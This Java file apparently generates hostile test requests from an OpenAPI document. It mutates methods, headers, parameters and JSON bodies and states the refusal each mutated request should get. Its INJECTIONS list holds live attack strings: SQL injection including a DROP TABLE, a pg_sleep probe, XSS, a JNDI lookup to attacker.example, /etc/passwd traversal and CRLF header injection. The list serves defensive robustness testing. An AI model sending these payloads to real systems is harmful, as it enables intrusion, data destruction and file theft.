package com.acme.it.support.hostile;

import com.acme.it.support.hostile.ApiDocument.Operation;
import com.acme.it.support.hostile.ApiDocument.Parameter;
import com.acme.it.support.hostile.Schemas.Violation;
import jakarta.json.Json;
import jakarta.json.JsonNumber;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;
import jakarta.json.JsonValue;
import jakarta.json.JsonValue.ValueType;
import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.RandomGenerator;
import net.jqwik.api.sessions.JqwikSession;

/**
 * Generates hostile requests for every operation of the served OpenAPI document: a valid-looking
 * baseline from the operation's schemas (values of the test's own namespace), then mutations of it,
 * one at a time, so that each request is wrong in one known way. Values come from jqwik arbitraries
 * drawn with a {@link Random} of the given seed, so one seed gives the same battery.
 */
public final class HostileBattery {

  /** What the product must do with a request. */
  public enum Expect {
    /** Invalid by the document (or the product's strict-JSON rules): a 4xx problem. */
    REFUSE,
    /** Possibly valid: any answer below 500; an error must still be a problem. */
    ANY,
    /**
     * A request line or URI that Liberty's HTTP layer refuses before it selects an application
     * (control characters or malformed escapes in the path, a request line over 32 KiB): a 400 that
     * no code in the EAR can answer, checked only for leaking nothing.
     */
    REFUSED_BEFORE_APPLICATION
  }

  /**
   * One request. {@code headers} excludes Authorization unless the mutation is about it ({@code
   * ownAuthorization}); {@code fields} are the fields or parameters a 400 must name one of (empty
   * when the refusal need not name one).
   */
  public record Mutant(
      Operation operation,
      String mutation,
      String method,
      String target,
      Map<String, String> headers,
      byte[] body,
      Expect expect,
      List<String> fields,
      boolean ownAuthorization) {}

  static final List<String> INJECTIONS =
      List.of(
          "' OR '1'='1",
          "'; DROP TABLE billing.audit_log; --",
          "1; select pg_sleep(5)",
          "\" OR \"\"=\"",
          "<script>alert(1)</script>",
          "${jndi:ldap://attacker.example/a}",
          "#{7*7}",
          "{{7*7}}",
          "../../../../etc/passwd",
          "%00",
          "%2e%2e%2f",
          "\\u0000",
          "$where: '1 == 1'",
          "admin'--",
          "*)(uid=*",
          "a\r\nX-Injected: yes",
          "\u202eevil",
          "💥🔥",
          "ＡＢＣ",
          "null",
          "true",
          "-1",
          "NaN",
          "Infinity");

  private static final List<String> NUMBER_LITERALS =
      List.of(
          "-1",
          "0",
          "0.5",
          "1.5",
          "1e400",
          "-1e400",
          "1e-400",
          "99999999999999999999",
          "2147483648",
          "9223372036854775808",
          "1E+2",
          "-0");

  private final ApiDocument document;
  private final Schemas schemas;
  private final Map<String, JsonValue> hints;
  private final long seed;
  private final Random random;
  private RandomGenerator<String> anyText;
  private RandomGenerator<String> unicodeText;
  private RandomGenerator<String> asciiText;
  private RandomGenerator<BigDecimal> anyNumber;
  private RandomGenerator<String> injection;

  public HostileBattery(ApiDocument document, Map<String, JsonValue> hints, long seed) {
    this.document = document;
    this.hints = hints;
    this.schemas = new Schemas(document, hints);
    this.seed = seed;
    this.random = new Random(seed);
  }

  /**
   * jqwik's generators need a jqwik session outside a property; the values themselves come from
   * this battery's own seeded {@link Random}.
   */
  private void createGenerators() {
    anyText = generator(Arbitraries.strings().all().ofMinLength(1).ofMaxLength(40));
    unicodeText =
        generator(
            Arbitraries.strings().withCharRange('\u00a0', '\ud7ff').ofMinLength(1).ofMaxLength(30));
    asciiText =
        generator(Arbitraries.strings().withCharRange('!', '~').ofMinLength(1).ofMaxLength(64));
    anyNumber =
        generator(
            Arbitraries.bigDecimals()
                .between(new BigDecimal("-1e12"), new BigDecimal("1e12"))
                .ofScale(3));
    injection = generator(Arbitraries.of(INJECTIONS));
  }

  private static <T> RandomGenerator<T> generator(Arbitrary<T> arbitrary) {
    return arbitrary.generatorWithEmbeddedEdgeCases(1000);
  }

  private <T> T next(RandomGenerator<T> generator) {
    return generator.next(random).value();
  }

  /** Every mutant for every operation, in document order. */
  public List<Mutant> generate(int fieldMutationsPerOperation) {
    List<Mutant> all = new ArrayList<>();
    JqwikSession.start(String.valueOf(seed));
    try {
      createGenerators();
      for (Operation operation : document.operations()) {
        all.addAll(forOperation(operation, fieldMutationsPerOperation));
      }
    } finally {
      JqwikSession.finish();
    }
    return all;
  }

  // ------------------------------------------------------------------ one operation

  private List<Mutant> forOperation(Operation op, int fieldBudget) {
    Request base = baseline(op);
    List<Mutant> out = new ArrayList<>();

    // The request line, the method, content negotiation.
    String wrongMethod =
        List.of("DELETE", "PATCH", "PUT", "POST", "GET").stream()
            .filter(m -> !document.methodsOf(op.path()).contains(m))
            .findFirst()
            .orElse("FOO");
    out.add(
        base.copy("method " + wrongMethod)
            .method(wrongMethod)
            .mutant(Expect.REFUSE, (String) null));
    out.add(
        base.copy("unknown path below the operation")
            .path(base.path + "/hostile-extra")
            .mutant(Expect.REFUSE, (String) null));
    out.add(
        base.copy("Accept that cannot be met")
            .header("Accept", "application/xml")
            .mutant(Expect.REFUSE, (String) null));
    out.add(
        base.copy("unknown query parameter")
            .query("hostile_extra", next(asciiText))
            .mutant(Expect.ANY, (String) null));
    out.add(
        base.copy("100,000-character query string")
            .query("hostile_long", "q".repeat(100_000))
            .mutant(Expect.REFUSED_BEFORE_APPLICATION, (String) null));
    if (op.secured()) {
      out.add(
          base.copy("garbage bearer token")
              .header("Authorization", "Bearer " + next(asciiText))
              .ownAuthorization()
              .mutant(Expect.REFUSE, (String) null));
      out.add(
          base.copy("Basic credentials")
              .header("Authorization", "Basic aG9zdGlsZTpob3N0aWxl")
              .ownAuthorization()
              .mutant(Expect.REFUSE, (String) null));
    }

    for (Parameter parameter : op.parameters()) {
      out.addAll(parameterMutants(op, base, parameter));
    }
    if (op.bodySchema() != null) {
      if ("object".equals(Schemas.type(op.bodySchema()))) {
        out.addAll(bodyMutants(op, base));
        out.addAll(fieldMutants(op, base, fieldBudget));
      } else {
        out.addAll(rawBodyMutants(base));
      }
    }
    return out;
  }

  // ------------------------------------------------------------------ parameters

  private List<Mutant> parameterMutants(Operation op, Request base, Parameter p) {
    List<Mutant> out = new ArrayList<>();
    String type = Schemas.type(p.schema());
    List<String> values = new ArrayList<>();
    if ("integer".equals(type) || "number".equals(type)) {
      values.addAll(List.of("abc", "1.5", "1e3", "99999999999", "-1", "", " 1"));
    }
    values.add(next(injection));
    values.add(next(injection));
    values.add(next(unicodeText));
    values.add(next(asciiText));
    values.add("x".repeat(2_000));
    values.add("a/b");
    values.add("a\\b");
    values.add("a#b");
    values.add("GOLD");
    values.add("");
    if (!"header".equals(p.in())) {
      values.add(next(anyText));
      values.add("a\u0000b");
    }
    for (String generated : values) {
      // What is sent: UTF-8 cannot carry a lone surrogate (it becomes '?').
      String value = new String(generated.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8);
      String label = p.in() + " " + p.name() + " = " + describe(value);
      Request r = base.copy(label);
      Expect expect;
      String field = null;
      switch (p.in()) {
        case "path" -> {
          if (hasControl(value)
              || value.contains(";")
              || climbsAboveRoot(op.path(), p.name(), value)) {
            expect = Expect.REFUSED_BEFORE_APPLICATION;
          } else if (value.isEmpty() || value.equals(".") || value.equals("..")) {
            expect = Expect.ANY; // changes which resource the path names
          } else if (value.contains("/") || value.contains("\\") || value.contains("#")) {
            expect = Expect.REFUSE; // Servlet 6.0 URI rules: refused by the container
          } else {
            List<Violation> v = parameterViolations(p, value);
            expect = v.isEmpty() ? Expect.ANY : Expect.REFUSE;
            field = v.isEmpty() ? null : p.name();
          }
          r.pathValue(p.name(), encode(value));
        }
        case "query" -> {
          List<Violation> v = parameterViolations(p, value);
          expect = v.isEmpty() ? Expect.ANY : Expect.REFUSE;
          field = v.isEmpty() ? null : p.name();
          r.query(p.name(), value);
        }
        case "header" -> {
          String headerValue = printableAscii(value);
          List<Violation> v = parameterViolations(p, headerValue);
          expect = v.isEmpty() || headerValue.isEmpty() ? Expect.ANY : Expect.REFUSE;
          field = expect == Expect.REFUSE ? p.name() : null;
          r.header(p.name(), headerValue);
        }
        default -> {
          continue;
        }
      }
      out.add(r.mutant(expect, field));
    }
    if ("path".equals(p.in())) {
      out.add(
          base.copy("path " + p.name() + " with a malformed escape")
              .pathValue(p.name(), "a%ZZb")
              .mutant(Expect.REFUSED_BEFORE_APPLICATION, (String) null));
      out.add(
          base.copy("path " + p.name() + " that is not UTF-8")
              .pathValue(p.name(), "a%C3%28b")
              .mutant(Expect.REFUSE, (String) null));
      out.add(
          base.copy("path " + p.name() + " of 100,000 characters")
              .pathValue(p.name(), "p".repeat(100_000))
              .mutant(Expect.REFUSED_BEFORE_APPLICATION, (String) null));
    }
    if ("query".equals(p.in())) {
      out.add(
          base.copy("query " + p.name() + " twice")
              .rawQuery(p.name() + "=" + encode(next(asciiText)))
              .mutant(Expect.ANY, (String) null));
    }
    return out;
  }

  private List<Violation> parameterViolations(Parameter p, String value) {
    String type = Schemas.type(p.schema());
    if ("integer".equals(type) || "number".equals(type)) {
      try {
        return schemas.validate(Json.createValue(new BigDecimal(value)), p.schema(), p.name());
      } catch (NumberFormatException e) {
        return List.of(new Violation(p.name(), "is not a number"));
      }
    }
    if (value.isEmpty() && !p.required()) {
      return List.of();
    }
    return schemas.validate(Json.createValue(value), p.schema(), p.name());
  }

  // ------------------------------------------------------------------ whole bodies

  private List<Mutant> bodyMutants(Operation op, Request base) {
    List<Mutant> out = new ArrayList<>();
    String json = base.json.toString();
    Map<String, Supplier<byte[]>> refused = new LinkedHashMap<>();
    refused.put("empty body", () -> new byte[0]);
    refused.put("body null", () -> utf8("null"));
    refused.put("body an array", () -> utf8("[" + json + "]"));
    refused.put("body a string", () -> utf8("\"" + next(asciiText).replace("\"", "") + "\""));
    refused.put("body a number", () -> utf8(next(anyNumber).toPlainString()));
    refused.put("body not JSON", () -> utf8("hostile " + next(anyText)));
    refused.put("body truncated", () -> utf8(json.substring(0, json.length() / 2)));
    refused.put("body with trailing garbage", () -> utf8(json + " }{"));
    refused.put("body nested 40 deep", () -> utf8(nested(json, 40)));
    refused.put("body nested 10,000 deep", () -> utf8(nested(json, 10_000)));
    refused.put("body not UTF-8", () -> invalidUtf8(json));
    refused.put("body over 64 KiB (whitespace)", () -> utf8(json + " ".repeat(70_000)));
    refused.put(
        "unknown field", () -> utf8(json.substring(0, json.length() - 1) + ",\"hostileExtra\":1}"));
    String firstKey = base.json.keySet().stream().findFirst().orElse(null);
    if (firstKey != null) {
      refused.put(
          "field " + firstKey + " twice",
          () ->
              utf8(
                  json.substring(0, json.length() - 1)
                      + ",\""
                      + firstKey
                      + "\":"
                      + base.json.get(firstKey)
                      + "}"));
    }
    refused.forEach(
        (label, body) -> {
          String field = label.startsWith("unknown field") ? "hostileExtra" : null;
          field = label.startsWith("field ") ? firstKey : field;
          out.add(base.copy(label).body(body.get()).mutant(Expect.REFUSE, field));
        });
    out.add(
        base.copy("Content-Type text/plain")
            .header("Content-Type", "text/plain")
            .mutant(Expect.REFUSE, (String) null));
    out.add(
        base.copy("Content-Type form")
            .header("Content-Type", "application/x-www-form-urlencoded")
            .mutant(Expect.REFUSE, (String) null));
    out.add(
        base.copy("no Content-Type")
            .header("Content-Type", null)
            .mutant(Expect.REFUSE, (String) null));
    out.add(
        base.copy("Content-Type with charset UTF-16")
            .header("Content-Type", "application/json; charset=UTF-16")
            .mutant(Expect.REFUSE, (String) null));
    out.add(
        base.copy("Content-Type garbage")
            .header("Content-Type", "garbage")
            .mutant(Expect.REFUSE, (String) null));
    return out;
  }

  /** A body the schema takes as a string (the webhook's raw event). */
  private List<Mutant> rawBodyMutants(Request base) {
    List<Mutant> out = new ArrayList<>();
    out.add(base.copy("empty body").body(new byte[0]).mutant(Expect.ANY, (String) null));
    out.add(base.copy("body not JSON").body(utf8(next(anyText))).mutant(Expect.ANY, (String) null));
    out.add(
        base.copy("body not UTF-8")
            .body(invalidUtf8("{\"id\":\"evt\"}"))
            .mutant(Expect.ANY, (String) null));
    out.add(
        base.copy("body nested 10,000 deep")
            .body(utf8(nested("{}", 10_000)))
            .mutant(Expect.ANY, (String) null));
    out.add(
        base.copy("body over 64 KiB")
            .body(utf8("{\"id\":\"" + "e".repeat(70_000) + "\"}"))
            .mutant(Expect.REFUSE, (String) null));
    out.add(
        base.copy("body of 1 MiB")
            .body(utf8("{\"id\":\"" + "e".repeat(1 << 20) + "\"}"))
            .mutant(Expect.REFUSE, (String) null));
    out.add(
        base.copy("Content-Type garbage")
            .header("Content-Type", "garbage")
            .mutant(Expect.ANY, (String) null));
    return out;
  }

  // ------------------------------------------------------------------ one field at a time

  private record FieldRef(List<String> path, JsonObject schema) {
    String name() {
      return String.join(".", path);
    }
  }

  private List<Mutant> fieldMutants(Operation op, Request base, int budget) {
    List<FieldRef> fields = new ArrayList<>();
    collectFields(op.bodySchema(), base.json, List.of(), fields, 0);
    List<Mutant> out = new ArrayList<>();
    if (fields.isEmpty()) {
      return out;
    }
    for (int i = 0; i < budget; i++) {
      FieldRef field = fields.get(i % fields.size());
      List<Supplier<Replacement>> kinds = kindsFor(field.schema());
      Replacement replacement = kinds.get(random.nextInt(kinds.size())).get();
      JsonObject mutated = replace(base.json, field.path(), replacement.value());
      List<Violation> violations = schemas.validate(mutated, op.bodySchema(), "");
      String label = field.name() + ": " + replacement.label();
      byte[] body = utf8(json(mutated));
      Request r = base.copy(label).body(body);
      if (body.length > 65_536) {
        out.add(r.mutant(Expect.REFUSE, (String) null)); // 413
      } else if (violations.isEmpty()) {
        out.add(r.mutant(Expect.ANY, (String) null));
      } else {
        out.add(r.mutant(Expect.REFUSE, violations.stream().map(Violation::field).toList()));
      }
    }
    return out;
  }

  private void collectFields(
      JsonObject schema, JsonValue value, List<String> path, List<FieldRef> out, int depth) {
    JsonObject s = document.resolve(schema);
    if (depth > 3 || !(value instanceof JsonObject object)) {
      return;
    }
    JsonObject properties = s.getJsonObject("properties");
    if (properties != null) {
      for (String name : properties.keySet()) {
        List<String> at = append(path, name);
        JsonObject propertySchema = document.resolve(properties.getJsonObject(name));
        out.add(new FieldRef(at, propertySchema));
        collectFields(propertySchema, object.get(name), at, out, depth + 1);
      }
    }
    if (s.get("additionalProperties") instanceof JsonObject values) {
      for (String key : object.keySet()) {
        List<String> at = append(path, key);
        JsonObject valueSchema = document.resolve(values);
        out.add(new FieldRef(at, valueSchema));
        collectFields(valueSchema, object.get(key), at, out, depth + 1);
      }
    }
  }

  private record Replacement(String label, JsonValue value) {}

  private List<Supplier<Replacement>> kindsFor(JsonObject schema) {
    List<Supplier<Replacement>> kinds = new ArrayList<>();
    kinds.add(() -> new Replacement("removed", null));
    kinds.add(() -> new Replacement("null", JsonValue.NULL));
    kinds.add(() -> new Replacement("an array", Json.createArrayBuilder().add("x").build()));
    kinds.add(() -> new Replacement("an object", Json.createObjectBuilder().add("x", 1).build()));
    String type = Schemas.type(schema);
    switch (type) {
      case "string" -> {
        kinds.add(() -> new Replacement("a number", Json.createValue(next(anyNumber))));
        kinds.add(() -> new Replacement("true", JsonValue.TRUE));
        kinds.add(() -> new Replacement("empty", Json.createValue("")));
        kinds.add(() -> new Replacement("blank", Json.createValue("   ")));
        kinds.add(
            () -> {
              int max = schema.containsKey("maxLength") ? schema.getInt("maxLength") : 5_000;
              return new Replacement(
                  (max + 1) + " characters", Json.createValue("m".repeat(max + 1)));
            });
        kinds.add(() -> new Replacement("60,000 characters", Json.createValue("l".repeat(60_000))));
        kinds.add(
            () -> new Replacement("100,000 characters", Json.createValue("h".repeat(100_000))));
        kinds.add(() -> new Replacement("a NUL character", Json.createValue("a\u0000b")));
        kinds.add(() -> new Replacement("a lone surrogate", Json.createValue("a\ud800b")));
        kinds.add(
            () -> {
              String s = next(injection);
              return new Replacement("injection " + describe(s), Json.createValue(s));
            });
        kinds.add(
            () -> {
              String s = next(injection);
              return new Replacement("injection " + describe(s), Json.createValue(s));
            });
        kinds.add(
            () -> {
              String s = next(anyText);
              return new Replacement("any text " + describe(s), Json.createValue(s));
            });
        kinds.add(
            () -> {
              String s = next(unicodeText);
              return new Replacement("unicode " + describe(s), Json.createValue(s));
            });
        kinds.add(() -> new Replacement("unknown value GOLD", Json.createValue("GOLD")));
        if ("date-time".equals(schema.getString("format", ""))) {
          for (String date :
              List.of(
                  "not-a-date",
                  "2026-13-45T00:00:00Z",
                  "10000-01-01T00:00:00Z",
                  "+1000000000-12-31T23:59:59Z",
                  "-999999999-01-01T00:00:00Z",
                  "2026-01-01")) {
            kinds.add(() -> new Replacement("date " + date, Json.createValue(date)));
          }
        }
      }
      case "integer", "number" -> {
        kinds.add(() -> new Replacement("a string", Json.createValue("1")));
        kinds.add(() -> new Replacement("true", JsonValue.TRUE));
        for (String literal : NUMBER_LITERALS) {
          kinds.add(() -> new Replacement(literal, Json.createValue(new BigDecimal(literal))));
        }
        kinds.add(
            () -> {
              BigDecimal n = next(anyNumber);
              return new Replacement("number " + n.toPlainString(), Json.createValue(n));
            });
      }
      case "boolean" -> {
        kinds.add(() -> new Replacement("\"true\"", Json.createValue("true")));
        kinds.add(() -> new Replacement("1", Json.createValue(1)));
        kinds.add(() -> new Replacement("0", Json.createValue(0)));
        kinds.add(() -> new Replacement("\"yes\"", Json.createValue("yes")));
      }
      case "object" -> {
        kinds.add(() -> new Replacement("a string", Json.createValue("x")));
        kinds.add(() -> new Replacement("a number", Json.createValue(1)));
        kinds.add(() -> new Replacement("empty", JsonValue.EMPTY_JSON_OBJECT));
        kinds.add(
            () ->
                new Replacement(
                    "an entry null", Json.createObjectBuilder().addNull("development").build()));
        kinds.add(
            () ->
                new Replacement(
                    "an entry of the wrong type",
                    Json.createObjectBuilder().add("development", "x").build()));
        kinds.add(
            () -> {
              JsonObjectBuilder many = Json.createObjectBuilder();
              for (int i = 0; i < 100; i++) {
                many.add("k" + i, 1);
              }
              return new Replacement("100 entries", many.build());
            });
        kinds.add(
            () ->
                new Replacement(
                    "a key with a control character",
                    Json.createObjectBuilder().add("a\u0001", 1).build()));
        kinds.add(
            () ->
                new Replacement(
                    "a key of 1,000 characters",
                    Json.createObjectBuilder().add("k".repeat(1000), 1).build()));
      }
      default -> {}
    }
    return kinds;
  }

  private static JsonObject replace(JsonObject object, List<String> path, JsonValue value) {
    JsonObjectBuilder builder = Json.createObjectBuilder(object);
    String key = path.get(0);
    if (path.size() == 1) {
      if (value == null) {
        builder.remove(key);
      } else {
        builder.add(key, value);
      }
    } else {
      JsonValue inner = object.get(key);
      builder.add(
          key,
          replace(
              inner instanceof JsonObject o ? o : JsonValue.EMPTY_JSON_OBJECT,
              path.subList(1, path.size()),
              value));
    }
    return builder.build();
  }

  // ------------------------------------------------------------------ the baseline request

  private Request baseline(Operation op) {
    Request r = new Request(op);
    for (Parameter p : op.parameters()) {
      String value = parameterBaseline(op, p);
      switch (p.in()) {
        case "path" -> r.pathValue(p.name(), encode(value));
        case "query" -> r.query(p.name(), value);
        case "header" -> r.header(p.name(), value);
        default -> {}
      }
    }
    if (op.bodySchema() != null) {
      String mediaType = op.bodyMediaType().contains("*") ? "application/json" : op.bodyMediaType();
      r.header("Content-Type", mediaType);
      JsonValue body = schemas.baseline(op.bodySchema(), null);
      r.json = body instanceof JsonObject o ? o : JsonValue.EMPTY_JSON_OBJECT;
      r.body =
          body.getValueType() == ValueType.STRING
              ? utf8("{\"id\":\"evt_hostile\",\"object\":\"event\"}")
              : utf8(body.toString());
    }
    r.header("Accept", "application/json");
    return r;
  }

  /**
   * A hint for one operation's parameter ({@code "<path> <in>:<name>"}) wins over one for every
   * parameter of that name ({@code "<in>:<name>"}).
   */
  private String parameterBaseline(Operation op, Parameter p) {
    JsonValue hint = hints.get(op.path() + " " + p.in() + ":" + p.name());
    if (hint == null) {
      hint = hints.get(p.in() + ":" + p.name());
    }
    if (hint == null && p.schema().containsKey("default")) {
      hint = p.schema().get("default");
    }
    if (hint == null) {
      hint = schemas.baseline(p.schema(), p.name());
    }
    return hint instanceof jakarta.json.JsonString s
        ? s.getString()
        : hint instanceof JsonNumber n ? n.toString() : hint.toString();
  }

  /** A request being built: path with its parameters, query, headers, body. */
  private final class Request {
    final Operation op;
    String label = "baseline";
    String method;
    String path;
    final Map<String, String> pathValues = new LinkedHashMap<>();
    final Map<String, String> query = new LinkedHashMap<>();
    String rawQuery;
    final Map<String, String> headers = new LinkedHashMap<>();
    JsonObject json = JsonValue.EMPTY_JSON_OBJECT;
    byte[] body;
    boolean ownAuthorization;

    Request(Operation op) {
      this.op = op;
      this.method = op.method();
      this.path = op.path();
    }

    Request copy(String label) {
      Request c = new Request(op);
      c.label = label;
      c.method = method;
      c.path = path;
      c.pathValues.putAll(pathValues);
      c.query.putAll(query);
      c.rawQuery = rawQuery;
      c.headers.putAll(headers);
      c.json = json;
      c.body = body;
      return c;
    }

    Request method(String m) {
      method = m;
      return this;
    }

    Request path(String p) {
      path = p;
      return this;
    }

    Request pathValue(String name, String encoded) {
      pathValues.put(name, encoded);
      return this;
    }

    Request query(String name, String value) {
      query.put(name, value);
      return this;
    }

    Request rawQuery(String raw) {
      rawQuery = raw;
      return this;
    }

    Request header(String name, String value) {
      if (value == null) {
        headers.remove(name);
      } else {
        headers.put(name, value);
      }
      return this;
    }

    Request body(byte[] b) {
      body = b;
      return this;
    }

    Request ownAuthorization() {
      ownAuthorization = true;
      return this;
    }

    Mutant mutant(Expect expect, String field) {
      return mutant(expect, field == null ? List.of() : List.of(field));
    }

    Mutant mutant(Expect expect, List<String> fields) {
      String target = path;
      for (Map.Entry<String, String> e : pathValues.entrySet()) {
        target = target.replace("{" + e.getKey() + "}", e.getValue());
      }
      StringBuilder q = new StringBuilder();
      query.forEach(
          (k, v) ->
              q.append(q.isEmpty() ? "" : "&").append(encode(k)).append('=').append(encode(v)));
      if (rawQuery != null) {
        q.append(q.isEmpty() ? "" : "&").append(rawQuery);
      }
      if (!q.isEmpty()) {
        target += "?" + q;
      }
      return new Mutant(
          op, label, method, target, Map.copyOf(headers), body, expect, fields, ownAuthorization);
    }
  }

  // ------------------------------------------------------------------ helpers

  /**
   * Whether the path, once Liberty has decoded it (an encoded '/' is a '/' then), has more ".."
   * segments than segments before them: Servlet 6.0 canonicalisation refuses it before any
   * application is chosen.
   */
  private static boolean climbsAboveRoot(String template, String name, String value) {
    String decoded = template.replace("{" + name + "}", value);
    int depth = 0;
    for (String segment : decoded.split("/")) {
      if (segment.equals("..")) {
        if (--depth < 0) {
          return true;
        }
      } else if (!segment.isEmpty() && !segment.equals(".")) {
        depth++;
      }
    }
    return false;
  }

  /**
   * The JSON text of a value, with a lone surrogate written as its escape (UTF-8 cannot carry it,
   * so the server gets exactly the string the test judged).
   */
  private static String json(JsonValue value) {
    String text = value.toString();
    StringBuilder out = new StringBuilder(text.length());
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      boolean paired =
          (Character.isHighSurrogate(c)
                  && i + 1 < text.length()
                  && Character.isLowSurrogate(text.charAt(i + 1)))
              || (Character.isLowSurrogate(c)
                  && i > 0
                  && Character.isHighSurrogate(text.charAt(i - 1)));
      if (Character.isSurrogate(c) && !paired) {
        out.append(String.format("\\u%04x", (int) c));
      } else {
        out.append(c);
      }
    }
    return out.toString();
  }

  private static String nested(String json, int depth) {
    return "{\"hostile\":" + "[".repeat(depth) + json + "]".repeat(depth) + "}";
  }

  /** The JSON with one string value carrying bytes that are not UTF-8. */
  private static byte[] invalidUtf8(String json) {
    int quote = json.indexOf(":\"");
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] bytes = utf8(json);
    int at = quote < 0 ? bytes.length / 2 : utf8(json.substring(0, quote + 2)).length;
    out.write(bytes, 0, at);
    out.write(0xC3);
    out.write(0x28);
    out.write(0xFF);
    out.write(bytes, at, bytes.length - at);
    return out.toByteArray();
  }

  private static byte[] utf8(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  /** Percent-encodes everything but RFC 3986's unreserved characters, as UTF-8. */
  static String encode(String value) {
    StringBuilder out = new StringBuilder();
    for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
      char c = (char) (b & 0xff);
      if ((c >= 'a' && c <= 'z')
          || (c >= 'A' && c <= 'Z')
          || (c >= '0' && c <= '9')
          || c == '-'
          || c == '_'
          || c == '.'
          || c == '~') {
        out.append(c);
      } else {
        out.append('%').append(String.format("%02X", b & 0xff));
      }
    }
    return out.toString();
  }

  /** What a header can carry: printable ASCII (a client library refuses the rest). */
  private static String printableAscii(String value) {
    StringBuilder out = new StringBuilder();
    for (char c : value.toCharArray()) {
      if (c >= 0x20 && c < 0x7f) {
        out.append(c);
      }
    }
    return out.toString().trim();
  }

  private static boolean hasControl(String value) {
    return value.chars().anyMatch(c -> c < 0x20 || c == 0x7f);
  }

  private static List<String> append(List<String> path, String name) {
    List<String> at = new ArrayList<>(path);
    at.add(name);
    return List.copyOf(at);
  }

  static String describe(String value) {
    StringBuilder out = new StringBuilder("\"");
    value
        .codePoints()
        .limit(24)
        .forEach(
            c -> {
              if (c < 0x20 || c == 0x7f || (c >= 0xd800 && c <= 0xdfff)) {
                out.append(String.format("\\u%04x", c));
              } else {
                out.appendCodePoint(c);
              }
            });
    if (value.codePointCount(0, value.length()) > 24) {
      out.append("...(").append(value.length()).append(" chars)");
    }
    return out.append('"').toString();
  }
}
